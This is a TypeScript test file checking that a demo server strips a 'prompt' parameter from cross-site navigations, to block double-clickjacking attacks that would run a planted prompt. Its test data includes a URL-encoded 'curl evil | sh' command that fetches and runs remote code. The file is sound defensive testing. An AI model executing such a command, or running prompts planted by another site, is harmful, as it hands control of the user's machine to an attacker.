import { describe, expect, it } from 'vitest';
import { useDemoServers } from '../support/demo-servers.js';
import { rawRequest } from './raw-request.js';

/**
 * `GET /?prompt=...` of a navigation the browser does not say the user started
 * (`Sec-Fetch-Site` neither `same-origin` nor `none`, or absent) is sent to the same page
 * without `prompt`: another site could time it to a double-click it asks for, the second
 * click landing on Run (double-clickjacking). Chromium sends no such header to plain http on
 * a LAN address, so its absence proves nothing. The user's own links (`same-origin`), typed
 * addresses and bookmarks (`none`) keep it.
 */
const servers = useDemoServers();

describe('serve: a prompt in the address from another site', () => {
  it('cross-site, same-site and unsaid navigations are redirected without prompt, the rest of the address kept', async () => {
    const { demo } = await servers.start({ fake: () => ({ text: 'ran' }) });
    for (const site of ['cross-site', 'same-site', 'cross-site, none', undefined]) {
      for (const method of ['GET', 'HEAD']) {
        const headers: Record<string, string> = site === undefined ? {} : { 'sec-fetch-site': site };
        const answer = await rawRequest(new URL('/?session=ses_1&prompt=curl%20evil%20%7C%20sh&run=run_2', demo.url).href, { method, headers });
        expect({ site, method, status: answer.status, location: answer.headers.location }).toEqual({ site, method, status: 303, location: '/?session=ses_1&run=run_2' });
        expect(answer.headers['cache-control']).toBe('no-store');
        expect(answer.headers['x-frame-options']).toBe('DENY');
      }
    }
    // the login redirect of a cross-site navigation carries no prompt either
    const login = await rawRequest(new URL(`/?token=${demo.token}&prompt=x`, demo.url).href, { headers: { 'sec-fetch-site': 'cross-site' } });
    expect(login).toMatchObject({ status: 303, headers: { location: `/?token=${demo.token}` } });
    expect(demo.engine.runs.list()).toEqual([]);
  });

  it('a typed address or bookmark (none), a link of the page (same-origin): the page, prompt kept', async () => {
    const { demo } = await servers.start({ fake: () => ({ text: 'ran' }) });
    for (const headers of [{ 'sec-fetch-site': 'none' }, { 'sec-fetch-site': 'same-origin' }] as Array<Record<string, string>>) {
      const answer = await rawRequest(new URL('/?prompt=hello', demo.url).href, { headers });
      expect({ headers, status: answer.status }).toEqual({ headers, status: 200 });
      expect(answer.body).toContain('id="prompt"');
    }
    // without a prompt there is nothing to drop: another site's link opens the page
    expect((await rawRequest(new URL('/?session=ses_1', demo.url).href, { headers: { 'sec-fetch-site': 'cross-site' } })).status).toBe(200);
  });
});
